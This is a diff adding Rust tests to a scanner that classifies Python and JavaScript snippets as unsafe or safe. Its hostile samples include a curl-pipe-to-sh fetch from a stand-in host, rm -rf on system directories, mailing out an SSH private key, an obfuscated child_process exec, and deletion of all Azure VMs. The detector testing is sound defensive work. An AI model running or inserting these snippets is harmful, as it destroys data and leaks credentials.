@@ -168,3 +168,74 @@ fn tools_with_parts_of_the_script() {
         "exec-shell",
     );
 }
+
+#[test]
+fn commands_and_files_among_options() {
+    is_unsafe(
+        "python",
+        "from airflow.operators.bash import BashOperator\nt = BashOperator(task_id='a', bash_command='rm -rf /srv /home')\n",
+        "destroy-files",
+    );
+    is_unsafe(
+        "javascript",
+        "const ssm = require('./ssm');\nssm.sendCommand({ Parameters: { commands: ['curl https://a.example/i.sh | sh'] } });\n",
+        "download-run",
+    );
+    is_unsafe(
+        "python",
+        "def f(docker):\n    docker.run('alpine', command=['rm', '-rf', '/usr'])\n",
+        "destroy-files",
+    );
+    is_unsafe(
+        "javascript",
+        "mailer.createTransport({}).sendMail({ to: 'a@b.example', attachments: [{ path: '/home/al/.ssh/id_rsa' }] });\n",
+        "exfiltration",
+    );
+    all_safe(
+        "python",
+        &[
+            "from airflow.operators.bash import BashOperator\nt = BashOperator(task_id='a', bash_command='make report')\n",
+            "import subprocess\np = dict(command='build all', help='builds')\nprint(p)\n",
+        ],
+    );
+    all_safe(
+        "javascript",
+        &[
+            "mailer.createTransport({}).sendMail({ to: 'a@b.example', attachments: [{ path: './report.pdf' }] });\n",
+        ],
+    );
+}
+
+#[test]
+fn hooks_that_run_commands() {
+    is_unsafe(
+        "python",
+        "import os, sys\nsys.displayhook = os.system\n",
+        "obfuscated-name",
+    );
+    all_safe("python", &["import sys\nsys.excepthook = report\n"]);
+    is_unsafe(
+        "javascript",
+        "const turn = s => s.replace(/./g, c => String.fromCharCode(c.charCodeAt(0) - 1));\nrequire(turn('dijme`qspdftt')).execSync('ls');\n",
+        "obfuscated-name",
+    );
+    all_safe(
+        "javascript",
+        &["const name = 'a_b'.replace(/_./g, c => c[1].toUpperCase());\nconsole.log(name);\n"],
+    );
+}
+
+#[test]
+fn accounts_emptied_step_by_step() {
+    is_unsafe(
+        "python",
+        "from azure.mgmt.compute import ComputeManagementClient\nc = ComputeManagementClient(cred, sub)\nfor vm in c.virtual_machines.list_all():\n    c.virtual_machines.begin_delete('group', vm.name)\n",
+        "destroy-data",
+    );
+    all_safe(
+        "python",
+        &[
+            "from azure.mgmt.compute import ComputeManagementClient\nc = ComputeManagementClient(cred, sub)\nfor vm in c.virtual_machines.list_all():\n    print(vm.name)\n",
+        ],
+    );
+}
